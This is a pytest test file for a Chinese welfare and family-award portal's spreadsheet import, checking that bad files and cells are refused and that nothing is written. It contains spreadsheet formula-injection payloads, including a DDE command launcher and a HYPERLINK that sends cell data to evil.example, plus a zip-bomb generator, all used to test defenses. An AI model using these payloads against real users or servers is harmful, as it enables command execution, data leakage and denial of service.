"""Bad files and bad cells, each refused with a clear Chinese message and nothing written.

Every fault is tried on family awards and on welfare grants, through the admin's import
page as township staff would upload it. "Nothing written" is checked on every table of the
portal, the change-history tables included, by counting rows before and after.
"""

import io
import re
import zipfile
from dataclasses import dataclass, field
from datetime import date

import pytest
from django.apps import apps
from django.conf import settings
from django.test import Client

from fedportal.personal_data import make_id_number, mask_id_number
from tests.families.test_award_import import HEADER as AWARD_HEADER
from tests.security.matrix import PORTAL_APPS
from tests.security.test_privacy import download_rows
from tests.spreadsheets import CSV, XLSX, confirm, csv_file, dry_run, export, xlsx

pytestmark = pytest.mark.django_db


@dataclass(frozen=True)
class Sheet:
    """An import template, a good row for it and which columns take which kind of cell."""

    app_model: str
    header: list
    good: dict
    number_column: str
    date_column: str
    text_column: str  # required
    optional_text_column: str
    duplicate_message: str
    id_number_column: str | None = None
    other_cells: dict = field(default_factory=dict)

    def row(self, **cells):
        values = {**self.good, **cells}
        return [values.get(column, "") for column in self.header]


AWARD = Sheet(
    "families.familyaward",
    AWARD_HEADER,
    {
        "所属单位": "腊市镇/明塘村",
        "户名": "刘春兰家庭",
        "户主姓名": "刘春兰",
        "表彰类别": "最美家庭",
        "表彰级别": "省",
        "授予单位": "江西省妇联",
        "年度": 2021,
        "授予日期": "2021/5/14",
        "事迹": "孝老爱亲",
    },
    number_column="年度",
    date_column="授予日期",
    text_column="户名",
    optional_text_column="事迹",
    duplicate_message="该家庭在同一年度已获得同一级别的同类表彰。",
)
GRANT = Sheet(
    "welfare.grant",
    [
        "编号",
        "所属单位",
        "帮扶项目",
        "年度",
        "发放日期",
        "项目实施编号",
        "受助人姓名",
        "身份证号码",
        "性别",
        "出生日期",
        "年龄",
        "未成年人",
        "城乡",
        "联系电话",
        "健康状况",
        "救助金额（元）",
        "物资名称",
        "物资数量",
        "单位",
        "资助方式",
        "备注",
    ],
    {
        "所属单位": "腊市镇/明塘村",
        "帮扶项目": "两癌救助",
        "年度": 2021,
        "发放日期": "2021/9/28",
        "受助人姓名": "刘冬梅",
        "身份证号码": make_id_number("360313", date(1975, 1, 9), 58),
        "城乡": "农村",
        "救助金额（元）": "10,000",
    },
    number_column="救助金额（元）",
    date_column="发放日期",
    text_column="受助人姓名",
    optional_text_column="备注",
    duplicate_message="该受助人同一天在这一项目中已有发放记录。",
    id_number_column="身份证号码",
)
SHEETS = [AWARD, GRANT]
by_model = pytest.mark.parametrize("sheet", SHEETS, ids=lambda s: s.app_model)

# Words a Chinese message may carry in Latin letters: the formats it names.
FORMAT_WORDS = {"xlsx", "CSV", "UTF", "GBK", "Excel", "WPS"}


def table_counts():
    """Rows of every table of the portal, change history included."""
    return {
        model._meta.label: model._default_manager.count()
        for app_label in PORTAL_APPS
        for model in apps.get_app_config(app_label).get_models()
    }


def messages_of(response):
    """What the import page told the user: file errors and the rejected cells' reasons."""
    context = response.context
    found = []
    form = context.get("form")
    if form is not None:
        found += list(form.errors.get("import_file", []))
    found += [reason for *_, reason in context.get("error_rows") or []]
    return found


def is_clear_chinese(message) -> bool:
    """Chinese, and not a Python exception or an English library message in disguise."""
    words = re.findall(r"[A-Za-z]{4,}", message)
    return bool(re.search(r"[\u4e00-\u9fff]", message)) and set(words) <= FORMAT_WORDS


@pytest.fixture
def township(demo, login):
    return login("township")


def assert_refused(response, *expected):
    """The import was refused: no confirm button, a clear Chinese message containing each
    of `expected`."""
    assert response.status_code == 200
    assert not response.context.get("confirm_form"), "the bad file could be confirmed"
    found = messages_of(response)
    assert found, "refused without a message"
    unclear = [m for m in found if not is_clear_chinese(m)]
    assert not unclear, f"not a clear Chinese message: {unclear}"
    for text in expected:
        assert any(text in m for m in found), (text, found)


def xlsx_bytes(sheet, rows):
    return xlsx(sheet.header, rows).getvalue()


def upload(data, name):
    file = io.BytesIO(data)
    file.name = name
    return file


# --- the file as a whole ------------------------------------------------------------------


@by_model
@pytest.mark.parametrize("fmt", [XLSX, CSV], ids=["xlsx", "csv"])
def test_an_oversized_file_is_refused(township, settings, sheet, fmt):
    settings.IMPORT_MAX_BYTES = 1024 * 1024
    if fmt == XLSX:
        # A real workbook with a stored, incompressible member past the limit.
        data = io.BytesIO(xlsx_bytes(sheet, [sheet.row()]))
        with zipfile.ZipFile(data, "a") as archive:
            archive.writestr("xl/media/photo.bin", bytes(range(256)) * 4400)
        file = upload(data.getvalue(), "big.xlsx")
    else:
        rows = [
            sheet.row(**{sheet.optional_text_column: f"第{n}行" + "很长的备注" * 30})
            for n in range(2500)
        ]
        file = csv_file(sheet.header, rows, "utf-8-sig", name="big.csv")
    assert len(file.getvalue()) > settings.IMPORT_MAX_BYTES
    before = table_counts()
    assert_refused(dry_run(township, sheet.app_model, file, fmt), "文件超过 1 MB 的上限")
    assert table_counts() == before


def zip_bomb(sheet):
    """A workbook of a few hundred KB whose sheet XML unpacks past IMPORT_MAX_UNPACKED_BYTES."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes(sheet, [sheet.row()])))
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in source.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                archive.writestr(item, source.read(item))
                continue
            info = zipfile.ZipInfo(item.filename)
            info.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(info, "w", force_zip64=True) as member:
                member.write(source.read(item).split(b"</sheetData>")[0])
                chunk = b"<row><c><v>1</v></c></row>" * 40_000
                written = 0
                while written <= settings.IMPORT_MAX_UNPACKED_BYTES:
                    member.write(chunk)
                    written += len(chunk)
                member.write(b"</sheetData></worksheet>")
    return target.getvalue()


@by_model
def test_an_xlsx_zip_bomb_is_refused_unread(township, sheet):
    data = zip_bomb(sheet)
    assert len(data) < 1024 * 1024 < settings.IMPORT_MAX_UNPACKED_BYTES
    before = table_counts()
    response = dry_run(township, sheet.app_model, upload(data, "bomb.xlsx"))
    assert_refused(response, "解压后过大")
    assert table_counts() == before


@by_model
def test_a_file_that_is_no_workbook_is_refused(township, sheet):
    before = table_counts()
    response = dry_run(township, sheet.app_model, upload(b"%PDF-1.7 not a workbook", "a.xlsx"))
    assert_refused(response, "不是有效的 xlsx 工作簿")
    assert table_counts() == before


@by_model
def test_a_sheet_of_another_record_type_is_refused(township, sheet, samples_for_update):
    """An honors export (编号, 所属单位, 获得者, 年度) uploaded as this model's import: its
    编号 matches a record here, which it would move to another unit."""
    record = samples_for_update[sheet.app_model]
    before = table_counts()
    rows = [[record.pk, "腊市镇", "李四", 2021]]
    response = dry_run(
        township, sheet.app_model, xlsx(["编号", "所属单位", "获得者", "年度"], rows)
    )
    if response.context.get("confirm_form"):
        confirm(township, sheet.app_model, response)
    record.refresh_from_db()
    assert (record.year, record.org_unit.name) == (2021, "明塘村")
    assert table_counts() == before
    assert_refused(response, "获得者")


@by_model
@pytest.mark.parametrize(
    "rows",
    [
        pytest.param(None, id="no-header"),
        pytest.param([], id="header-only"),
        pytest.param("empty", id="empty-workbook"),
    ],
)
def test_a_sheet_without_header_or_rows_is_refused_in_chinese(township, sheet, rows):
    if rows is None:
        # The data without its header row: the first record is taken for the header.
        file = xlsx(sheet.row(), [sheet.row(**{sheet.text_column: "第二户"})])
    elif rows == "empty":
        file = xlsx([], [])
    else:
        file = xlsx(sheet.header, rows)
    before = table_counts()
    assert_refused(dry_run(township, sheet.app_model, file))
    assert table_counts() == before


@by_model
def test_a_confirm_whose_rows_no_longer_all_pass_writes_nothing(township, sheet, user):
    """Previewed clean, then one row becomes a duplicate (a colleague enters the same
    record) before the import is confirmed: nothing of the file may be written."""
    first = sheet.row(**{sheet.text_column: "先录入的一户"})
    if sheet.id_number_column:
        index = sheet.header.index(sheet.id_number_column)
        first[index] = make_id_number("360313", date(1980, 3, 3), 24)
    preview = dry_run(township, sheet.app_model, xlsx(sheet.header, [first, sheet.row()]))
    assert not messages_of(preview) and preview.context["confirm_form"]
    colleague = user("staff")
    other = dry_run(login_as(colleague), sheet.app_model, xlsx(sheet.header, [sheet.row()]))
    confirm(login_as(colleague), sheet.app_model, other)
    before = table_counts()
    response = confirm(township, sheet.app_model, preview)
    assert table_counts() == before
    assert response.status_code == 200 and messages_of(response)
    # The import page again, with its columns, for the corrected file.
    assert not response.context["form"].is_bound
    assert response.context["fields_list"][0][1][:2] == ["编号", "所属单位"]


def login_as(user):
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def samples_for_update(township):
    """A family award and a grant of 明塘村 (2021), made through the import itself."""
    made = {}
    for sheet in SHEETS:
        response = dry_run(township, sheet.app_model, xlsx(sheet.header, [sheet.row()]))
        assert confirm(township, sheet.app_model, response).status_code == 302
        model = apps.get_model(sheet.app_model)
        made[sheet.app_model] = model.objects.get()
    return made


# --- cells ----------------------------------------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
]


@by_model
def test_formulas_in_text_cells_are_kept_as_text_and_exported_escaped(township, sheet):
    """CSV cells starting with = + - @ are stored as the text typed, never evaluated, and
    every export writes them with a leading apostrophe, so a spreadsheet shows the text."""
    model = apps.get_model(sheet.app_model)
    rows = [
        sheet.row(**{sheet.text_column: f"户{n}", sheet.optional_text_column: formula})
        for n, formula in enumerate(FORMULAS)
    ]
    if sheet is GRANT:
        # One person per row: the same person on the same day twice is a duplicate.
        for n, row in enumerate(rows):
            row[sheet.header.index("身份证号码")] = make_id_number(
                "360313", date(1970, 1, n + 1), 8
            )
    response = dry_run(township, sheet.app_model, csv_file(sheet.header, rows, "utf-8-sig"), CSV)
    assert not messages_of(response)
    confirm(township, sheet.app_model, response)
    column = model._meta.get_field(
        {"事迹": "story", "备注": "notes"}[sheet.optional_text_column]
    ).attname
    assert sorted(model.objects.values_list(column, flat=True)) == sorted(FORMULAS)
    for fmt in (XLSX, CSV):
        cells = [
            row[sheet.optional_text_column]
            for row in download_rows(export(township, sheet.app_model, fmt)).values()
        ]
        assert sorted(cells) == sorted("'" + formula for formula in FORMULAS), fmt


@by_model
def test_a_formula_cell_of_a_workbook_is_not_taken_for_its_text(township, sheet):
    """In an xlsx a cell starting with = is a formula; its text is not imported as data, so
    a required column holding one is refused as empty."""
    before = table_counts()
    rows = [sheet.row(**{sheet.text_column: "=cmd|' /C calc'!A0"})]
    response = dry_run(township, sheet.app_model, xlsx(sheet.header, rows))
    assert_refused(response, f"“{sheet.text_column}”为必填项")
    assert table_counts() == before


@by_model
@pytest.mark.parametrize(
    ("kind", "value", "reason"),
    [
        ("number", "二〇二一", "不是"),
        ("number", "1O", "不是"),
        ("date", "2021-02-30", "无法识别日期"),
        ("date", "去年春节", "无法识别日期"),
        ("id_number", None, "身份证号码校验位不正确"),
        ("id_number", "36031319750109005", "身份证号码应为18位"),
    ],
)
def test_cells_of_the_wrong_type_are_named_and_nothing_is_written(
    township, sheet, kind, value, reason
):
    if kind == "id_number":
        if sheet.id_number_column is None:
            pytest.skip("no ID numbers in this record")
        column = sheet.id_number_column
        if value is None:
            good = sheet.good[column]
            value = good[:17] + ("1" if good[17] != "1" else "2")
    else:
        column = getattr(sheet, f"{kind}_column")
    good = {sheet.text_column: "好的一行"}
    if sheet.id_number_column:
        # Another person, or the two rows would also be one grant twice.
        good[sheet.id_number_column] = make_id_number("360313", date(1980, 3, 3), 24)
    rows = [sheet.row(**good), sheet.row(**{column: value})]
    before = table_counts()
    response = dry_run(township, sheet.app_model, xlsx(sheet.header, rows))
    assert_refused(response, reason)
    named = [(row, name, shown) for row, name, shown, _ in response.context["error_rows"]]
    # An ID number is shown to a township officer masked, as in an export.
    shown = mask_id_number(value) if kind == "id_number" else value
    assert (3, column, shown) in named
    assert {row for row, *_ in named} == {3}
    assert table_counts() == before


@by_model
@pytest.mark.parametrize(
    "number",
    [
        pytest.param("abc"),
        pytest.param("NaN"),
        pytest.param("-3"),
        pytest.param(2**70),
    ],
)
def test_a_record_number_that_is_no_number_is_refused(demo, user, sheet, number):
    client = Client(raise_request_exception=False)
    client.force_login(user("township"))
    before = table_counts()
    response = dry_run(client, sheet.app_model, xlsx(sheet.header, [sheet.row(编号=number)]))
    assert table_counts() == before
    assert_refused(response, "编号")


@by_model
@pytest.mark.parametrize("encoding", ["gbk", "utf-8-sig", "utf-8"])
def test_csv_in_the_encodings_chinese_excel_writes_is_read(township, sheet, encoding):
    model = apps.get_model(sheet.app_model)
    file = csv_file(sheet.header, [sheet.row(**{sheet.text_column: "编码测试"})], encoding)
    response = dry_run(township, sheet.app_model, file, CSV)
    assert not messages_of(response)
    confirm(township, sheet.app_model, response)
    column = model._meta.get_field(
        {"户名": "household_name", "受助人姓名": "beneficiary_name"}[sheet.text_column]
    )
    assert model.objects.filter(**{column.attname: "编码测试"}).count() == 1


@by_model
@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"\xff\xfe\x00\x80\x81 not text", id="invalid-bytes"),
        pytest.param("编号,户名\r\n1,刘家\r\n".encode("utf-16"), id="utf-16"),
    ],
)
def test_csv_in_an_unknown_encoding_is_refused(township, sheet, data):
    before = table_counts()
    response = dry_run(township, sheet.app_model, upload(data, "a.csv"), CSV)
    assert_refused(response, "无法识别文件编码")
    assert table_counts() == before


@by_model
def test_a_row_twice_in_one_file_is_refused(township, sheet):
    before = table_counts()
    response = dry_run(township, sheet.app_model, xlsx(sheet.header, [sheet.row(), sheet.row()]))
    assert_refused(response, sheet.duplicate_message)
    assert [row for row, *_ in response.context["error_rows"]] == [3]
    assert table_counts() == before


@by_model
def test_a_row_already_in_the_database_is_refused(township, sheet, samples_for_update):
    before = table_counts()
    response = dry_run(township, sheet.app_model, xlsx(sheet.header, [sheet.row()]))
    assert_refused(response, sheet.duplicate_message)
    assert table_counts() == before
